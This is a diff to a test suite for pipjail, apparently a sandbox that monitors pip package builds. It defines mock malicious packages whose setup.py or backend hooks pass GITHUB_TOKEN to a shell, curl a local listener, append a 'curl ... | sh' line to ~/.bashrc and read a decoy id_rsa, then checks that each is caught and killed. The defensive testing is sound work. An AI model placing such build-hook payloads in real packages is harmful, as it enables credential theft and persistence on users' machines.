@@ -1,8 +1,9 @@
 """The verdict (issue 4), from real pip runs in the jail.
 
 Each attack is a package of its own whose build does one bad thing, in a
-plain setup.py (legacy: no pyproject.toml, no `wheel`, so pip runs
-`setup.py egg_info` and `setup.py install`) and in a PEP 517 in-tree backend
+plain setup.py (no pyproject.toml: pipjail makes pip build it through PEP
+517, PIP_USE_PEP517=1, so setup.py first runs in setuptools' own
+get_requires_for_build_wheel) and in a PEP 517 in-tree backend
 (backend.py, backend-path ["."]) in get_requires_for_build_wheel or
 build_wheel.  Each must be caught and attributed to its package and hook;
 in enforce mode the violator is killed (exit 101, the process chain shown),
@@ -78,7 +79,8 @@ def after(name):
 
 
 class Attack:
-    def __init__(self, name, code, rule, kind, roles, chain_tail, killed_in_kernel=False):
+    def __init__(self, name, code, rule, kind, roles, chain_tail, killed_in_kernel=False,
+                 refused_first=False):
         self.name = name
         self.code = code          # Python, run in the build; {port} {venv} filled in
         self.rule = rule
@@ -88,6 +90,10 @@ class Attack:
         # the kernel kills the violator at the call itself: it never acts
         # after it (denied programs, pip-only files: see bpf/monitor.bpf.c)
         self.killed_in_kernel = killed_in_kernel
+        # the kernel refuses the call itself (nothing leaves) and the
+        # violator may end before the user-space kill: then "kill failed
+        # (the process was already gone)", exit 100 (docs/profiles.md)
+        self.refused_first = refused_first
 
 
 # The attacks the kernel does not stop at the call itself go on for a
@@ -104,11 +110,14 @@ ATTACKS = {a.name: a for a in [
            "subprocess.call(['/bin/sh', '-c', 'sleep 3; echo done', 'x', os.environ['GITHUB_TOKEN']],"
            " stdout=subprocess.DEVNULL)\n",
            "decoy-token", "exec", {"build", "tool"}, " → sh"),
+    # the default profile judges what curl does (its connect), not its name;
+    # Landlock refuses the connect in the kernel (EACCES) and curl gives up
+    # at once: the user-space kill may find it gone (refused_first)
     Attack("curl",
            "import subprocess\n"
            "subprocess.call(['/bin/sh', '-c', 'curl -s -m 5 --noproxy \"*\" http://127.0.0.1:{port}/x;"
-           " true'])\n",
-           "exec", "exec", {"tool"}, " → sh → curl", killed_in_kernel=True),
+           " sleep 3; true'])\n",
+           "network", "network", {"tool"}, " → sh → curl", refused_first=True),
     Attack("write",
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
            "    f.write('curl http://127.0.0.1:1/x | sh\\n')\n" + LINGER + after("write"),
@@ -148,7 +157,7 @@ def make_attack(project, attack, style, port, pkg=None):
             f.write("[global]\ntimeout = 60\n")
     if style == "setup.py":
         pyproj.legacy_sdist(project.dist, pkg, "1.0", code)
-        return pkg, "setup.py egg_info"
+        return pkg, "get_requires_for_build_wheel"
     hook = BACKEND_HOOK[attack.name]
     pyproj.backend_sdist(project.dist, pkg, "1.0", code, hook)
     return pkg, hook
@@ -189,7 +198,7 @@ def evidence_ok(v, attack, project, port):
     if attack.name == "token":
         return "sh" in ev
     if attack.name == "curl":
-        return "curl" in ev
+        return f"127.0.0.1:{port}" in ev
     if attack.name == "write":
         return ".bashrc" in ev
     if attack.name == "connect":
@@ -232,6 +241,13 @@ def test_attack_is_killed_in_enforce_mode(pj, project, host_listener, test_user,
     v = vs[0]
     check_violation(v, attack, pkg, hook, rep)
     assert evidence_ok(v, attack, project, port), v
+    if attack.refused_first and not v["done"]:
+        # refused in the kernel, and gone before the kill: said so, exit 100
+        assert v["call_failed"] and "already gone" in v["outcome"], v
+        assert r.returncode == 100 and rep["exit"]["code"] == 100, str(r)
+        assert not accepted(host_listener), "a build reached the host's listener"
+        assert project.site_unchanged(), "a violating install was committed"
+        return
     # killed: pipjail says so and exits 101
     assert r.returncode == 101, str(r)
     assert rep["killed"] is True and rep["exit"]["code"] == 101, rep["exit"]
@@ -282,11 +298,14 @@ def test_attack_is_reported_in_audit_mode_and_replay_agrees(pj, project, host_li
     assert all(x["done"] is False for x in rep["violations"]), rep["violations"]
     assert "audit" in v["outcome"], v
     assert "done:     killed" not in r.stderr and "nothing was killed" in r.stderr, str(r)
-    # nothing was killed: the violator ended on its own, and the payload
-    # went on after its attack
+    # nothing was killed: no kill by the kernel, the violator ended on its
+    # own, and the payload went on after its attack (a SIGKILL from pip
+    # itself, such as its 0.5 s timeout on `rustc --version` for its user
+    # agent on a loaded machine, is not pipjail's)
     t = project.load_trace()
     for e in pyproj.events(t):
-        assert e["kind"] != "exit" or e.get("signal") != "SIGKILL", e
+        assert not e.get("killed_in_kernel"), e
+        assert e["kind"] != "exit" or e.get("signal") != "SIGKILL" or e["hpid"] != v["hpid"], e
     if AFTER + name in attack.code:
         assert any(e["kind"] == "open" and e.get("path") == AFTER + name for e in pyproj.events(t)), \
             "the payload did not go on after its attack in audit mode"
@@ -354,7 +373,7 @@ def test_short_lived_violator_is_caught_and_reported_honestly(pj, project, case)
 
 
 def test_enforce_trace_replays_to_the_same_verdict(pj, project, host_listener):
-    attack = ATTACKS["curl"]
+    attack = ATTACKS["ssh"]
     pkg, hook = make_attack(project, attack, "backend", host_listener.getsockname()[1])
     r = project.install(pkg)
     assert r.returncode == 101, str(r)
@@ -367,15 +386,15 @@ def test_enforce_trace_replays_to_the_same_verdict(pj, project, host_listener):
     assert live <= again, f"live: {live}\nreplay: {again}"
     # A replay kills nothing; a kill the kernel made in the live run is in
     # the trace (killed_in_kernel) and is reported as done.
-    curl = [v for v in rrep["violations"] if v["rule"] == "exec"]
-    assert curl, rrep["violations"]
-    execs = [e for e in pyproj.events(project.load_trace())
-             if e["kind"] == "exec" and e["hpid"] == curl[0]["hpid"]]
-    assert len(execs) == 1, execs
-    if execs[0].get("killed_in_kernel"):
-        assert curl[0]["done"] is True and curl[0]["outcome"] == "killed", curl[0]
+    read = [v for v in rrep["violations"] if v["rule"] == "decoy-read"]
+    assert read, rrep["violations"]
+    opens = [e for e in pyproj.events(project.load_trace())
+             if e["kind"] == "open" and e["hpid"] == read[0]["hpid"] and "id_rsa" in (e.get("path") or "")]
+    assert opens, "the decoy's open is in the trace"
+    if opens[0].get("killed_in_kernel"):
+        assert read[0]["done"] is True and read[0]["outcome"] == "killed", read[0]
     else:
-        assert curl[0]["done"] is False and curl[0]["outcome"] == "reported (a live run kills it)", curl[0]
+        assert read[0]["done"] is False and read[0]["outcome"] == "reported (a live run kills it)", read[0]
     killed = any(v["done"] for v in rrep["violations"])
     assert rr.returncode == (101 if killed else 100), str(rr)
     assert rrep["exit"]["code"] == rr.returncode, rrep["exit"]
